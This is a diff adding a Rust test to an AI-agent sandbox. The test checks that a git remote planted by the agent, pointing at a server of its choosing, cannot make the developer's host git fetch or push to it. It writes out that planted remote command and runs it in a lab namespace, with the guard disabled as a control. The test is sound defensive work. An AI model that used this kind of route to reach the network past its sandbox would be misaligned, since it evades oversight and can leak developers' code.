@@ -20,6 +20,7 @@ use std::process::Output;
 
 use lazaret_tests::escalation::chown_tree;
 use lazaret_tests::*;
+use lazaret_tests::netlab;
 
 const GIT_ENV: &str = "env = { GIT_AUTHOR_NAME = \"Agent Smith\", GIT_AUTHOR_EMAIL = \"agent@example.invalid\", GIT_COMMITTER_NAME = \"Agent Smith\", GIT_COMMITTER_EMAIL = \"agent@example.invalid\" }\n";
 
@@ -353,6 +354,118 @@ fn a_git_dir_symlinked_to_a_host_repository_reads_nothing_of_it() {
         }
     }
     assert_neutralised(&env, &["p5/.git/objects"]);
+    env.assert_nothing_left();
+    env.assert_journal_conforms();
+}
+
+/// Counts TCP connections to `addr` in the namespace `netns` (a thread
+/// that enters it alone) until dropped.
+struct Listener {
+    connections: std::sync::Arc<std::sync::atomic::AtomicUsize>,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+    thread: Option<std::thread::JoinHandle<()>>,
+}
+
+impl Listener {
+    fn start(netns: &Path, addr: &str) -> Listener {
+        use std::sync::atomic::Ordering;
+        let connections = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+        let (ready_tx, ready_rx) = std::sync::mpsc::channel();
+        let ns = fs::File::open(netns).expect("open the lab namespace");
+        let addr = addr.to_owned();
+        let (count, halt) = (connections.clone(), stop.clone());
+        let thread = std::thread::spawn(move || {
+            // Only this thread enters the lab's world.
+            nix::sched::setns(&ns, nix::sched::CloneFlags::CLONE_NEWNET).expect("setns into the lab world");
+            let listener = std::net::TcpListener::bind(&addr).expect("bind in the lab world");
+            listener.set_nonblocking(true).expect("nonblocking");
+            ready_tx.send(()).expect("ready");
+            while !halt.load(Ordering::SeqCst) {
+                match listener.accept() {
+                    Ok(_) => {
+                        count.fetch_add(1, Ordering::SeqCst);
+                    }
+                    Err(_) => std::thread::sleep(std::time::Duration::from_millis(10)),
+                }
+            }
+        });
+        ready_rx.recv_timeout(std::time::Duration::from_secs(10)).expect("the listener did not start");
+        Listener { connections, stop, thread: Some(thread) }
+    }
+
+    fn connections(&self) -> usize {
+        self.connections.load(std::sync::atomic::Ordering::SeqCst)
+    }
+}
+
+impl Drop for Listener {
+    fn drop(&mut self) {
+        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
+        if let Some(thread) = self.thread.take() {
+            let _ = thread.join();
+        }
+    }
+}
+
+/// Property 2 with a network URL: a repository the agent made names a
+/// server of its choosing as `origin` (`http://`, and a `pushurl` in
+/// scp-like SSH form would be judged the same). The developer's `git
+/// fetch` and `git push` run on the host, outside any egress policy of
+/// the Domain. Everything runs in a lab the test made (the server is a
+/// listener in the lab's world namespace, the developer's git in the lab's
+/// host namespace). Shown first with the guard off: the developer's git
+/// connects; with the guard on, the URL is dropped and nothing connects.
+#[test]
+fn the_developers_git_never_connects_to_a_network_url_the_agent_named() {
+    let lab = netlab::NetLab::new();
+    let mut env = developer_env();
+    env.netns = Some(lab.host.clone());
+    let ws = env.workspace.clone();
+    let server = format!("{}:9418", netlab::PUBLIC);
+    let listener = Listener::start(&lab.world, &server);
+    let developer_git_in_lab = |dir: &Path, args: &[&str]| {
+        let home = nix::unistd::User::from_name(TEST_USER).ok().flatten().map(|u| u.dir).unwrap_or_else(|| PathBuf::from("/"));
+        std::process::Command::new("nsenter")
+            .arg(format!("--net={}", lab.host.display()))
+            .args(["--", "runuser", "-u", TEST_USER, "--", "env"])
+            .arg(format!("HOME={}", home.display()))
+            .args(["timeout", "20", "git", "-c", "user.name=Dev", "-c", "user.email=dev@example.invalid", "-C"])
+            .arg(dir)
+            .args(args)
+            .output()
+            .expect("running the developer's git in the lab")
+    };
+    for (guard_on, repo) in [(false, "p6-off"), (true, "p6")] {
+        let script = format!(
+            "set -u; W={w}; (set -e; git init -q -b main $W/{repo}; cd $W/{repo}; echo x > x; git add x; git commit -qm x; \
+             git remote add origin http://{server}/x.git; echo 'route network-url=ok'); echo done=yes",
+            w = ws.display()
+        );
+        let mut run = env.lazaret(["run", "test", "--", "sh", "-c", &script]);
+        if !guard_on {
+            run.env("LAZARET_TEST_HOOKS", "1").env("LAZARET_TEST_GUARD", "off");
+        }
+        let out = run.output().expect("lazaret run");
+        let stdout = text(&out.stdout);
+        println!("guard {guard_on}: {stdout}{}", text(&out.stderr));
+        assert_planted(&stdout, &["network-url"]);
+        assert_eq!(env.wait_domains_unlocked(), Vec::<String>::new(), "the Domain did not go down");
+        let before = listener.connections();
+        for args in [&["fetch", "-q"][..], &["push", "-q", "origin", "HEAD:refs/heads/main"]] {
+            let out = developer_git_in_lab(&ws.join(repo), args);
+            println!("host git {args:?} in {repo}: {}{}", text(&out.stdout), text(&out.stderr));
+        }
+        std::thread::sleep(std::time::Duration::from_millis(100));
+        let contacted = listener.connections() - before;
+        if guard_on {
+            assert_eq!(contacted, 0, "the developer's git connected to the server the agent named");
+        } else {
+            assert!(contacted > 0, "with the guard off the developer's git did not connect: the test could not see an attack");
+        }
+    }
+    assert_neutralised(&env, &["p6/.git/config"]);
+    drop(listener);
     env.assert_nothing_left();
     env.assert_journal_conforms();
 }
